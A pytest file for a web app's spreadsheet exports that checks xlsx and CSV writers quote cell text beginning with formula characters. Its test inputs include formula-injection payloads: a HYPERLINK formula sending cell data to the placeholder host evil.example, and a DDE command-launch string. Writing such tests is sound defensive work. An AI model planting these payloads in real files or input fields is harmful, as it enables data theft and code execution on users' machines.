"""Every xlsx and CSV export neutralises text a spreadsheet would run as a formula (= + - @ tab CR):
one writer (app.tabular), tried on each export route with hostile names and references."""
import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.assessment import runs
from app.extensions import db
from app.models import Cycle, Indicator, Officer, Unit
from app.tabular import FORMULA_STARTS, csv_bytes, safe_cell, xlsx_workbook

from .assessment_setup import build_world as build_assessment
from .assessment_setup import load, officer_rows, unit_rows
from .feedback_helpers import build_world as build_feedback
from .test_residents import setup_types

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def test_safe_cell_quotes_formula_text_and_leaves_numbers_alone():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in (-5, 3.25, 0, None, "张三", "a=b", "PS01", "96.5%"):
        assert safe_cell(value) == value


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula_xlsx(data: bytes, must_contain: list[str]) -> None:
    """No cell is a formula or text that starts like one; each hostile text is there, quoted."""
    values = []
    for cell in _cells(data):
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), cell.value
        values.append(cell.value)
    for text in must_contain:
        assert "'" + text in values, text


def assert_no_formula_csv(data: bytes, must_contain: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    fields = [f for row in rows for f in row]
    for field in fields:
        assert not field.startswith(FORMULA_STARTS), field
    for text in must_contain:
        assert "'" + text in fields, text


def test_the_writers_keep_numbers_as_numbers():
    data = xlsx_workbook([("s", ["=名称", "分数"], [[HOSTILE[0], 95.5], ["-3", -3]])])
    assert_no_formula_xlsx(data, [HOSTILE[0], "=名称", "-3"])
    numbers = [c.value for c in _cells(data) if c.data_type == "n"]
    assert numbers == [95.5, -3]
    assert_no_formula_csv(csv_bytes(["@头"], [[HOSTILE[3], 7]]), [HOSTILE[3], "@头"])
    assert "7" in csv_bytes(["x"], [[7]]).decode("utf-8-sig").split()


def _login(client, username):
    client.post("/logout")
    assert client.post("/login", data={"username": username, "password": "password123"}).status_code == 302


def test_tracking_exports_quote_hostile_officer_names(app, client, auth):
    world = build_feedback(app, members=3)
    with app.app_context():
        for officer_id, name in zip(world.member_ids, HOSTILE[:3], strict=True):
            db.session.get(Officer, officer_id).name = name
        db.session.get(Unit, world.unit_id).name = HOSTILE[3]
        db.session.commit()
    _login(client, "leader")
    leader_file = client.get(f"/feedback/tracking.xlsx?cycle={world.cycle_id}")
    assert leader_file.status_code == 200
    assert_no_formula_xlsx(leader_file.data, HOSTILE[:4])
    client.post("/logout")
    auth.as_role("admin", username="boss", unit_code="PS02")
    admin_file = client.get(f"/admin/feedback/cycles/{world.cycle_id}/tracking.xlsx")
    assert admin_file.status_code == 200
    assert_no_formula_xlsx(admin_file.data, HOSTILE[:4])


def test_run_and_report_exports_quote_hostile_names(app, client, auth):
    auth.as_role("admin", unit_code="BJ")
    with app.app_context():
        ids = build_assessment()
        load(ids, unit_rows() + officer_rows(ids))
        db.session.get(Officer, ids["officers"]["B00"]).name = HOSTILE[0]
        db.session.get(Unit, ids["units"]["PS01"]).name = HOSTILE[3]
        indicator = db.session.execute(sa.select(Indicator).filter_by(code="discipline")).scalar_one()
        indicator.name = HOSTILE[1]
        run = runs.compute_run(db.session.get(Cycle, ids["cycle"]))
        db.session.commit()
        run_id, cycle_id, ps01 = run.id, ids["cycle"], ids["units"]["PS01"]
    results = client.get(f"/assessment/runs/{run_id}/export.xlsx")
    assert results.status_code == 200
    assert_no_formula_xlsx(results.data, [HOSTILE[0], HOSTILE[3]])
    bureau = client.get(f"/reports/bureau.xlsx?cycle={cycle_id}")
    assert bureau.status_code == 200
    assert_no_formula_xlsx(bureau.data, [HOSTILE[3]])
    station = client.get(f"/reports/units/{ps01}.xlsx?cycle={cycle_id}")
    assert station.status_code == 200
    assert_no_formula_xlsx(station.data, [HOSTILE[1]])


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_resident_link_files_quote_hostile_references(app, client, auth, fmt):
    auth.as_role("admin", username="boss")
    setup_types(app)
    references = ["=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM2(1+1)", "+J9"]
    lines = ["业务编号,业务类型,单位代码,手机号,民警警号,办理状态"]
    lines += [f'"{r.replace(chr(34), chr(34) * 2)}",110 接处警,PS01,1380000000{i},,已办结'
              for i, r in enumerate(references)]
    lines.append('"-1",110 接处警,PS01,12345,,已办结')  # skipped (phone): listed in the skipped sheet
    response = client.post("/residents/batch", data={
        "file": (io.BytesIO("\n".join(lines).encode("utf-8")), "records.csv"), "fmt": fmt, "submit": "1"},
        content_type="multipart/form-data")
    assert response.status_code == 200
    if fmt == "csv":
        assert response.mimetype == "text/csv"
        assert_no_formula_csv(response.data, references)
    else:
        assert_no_formula_xlsx(response.data, references + ["-1"])
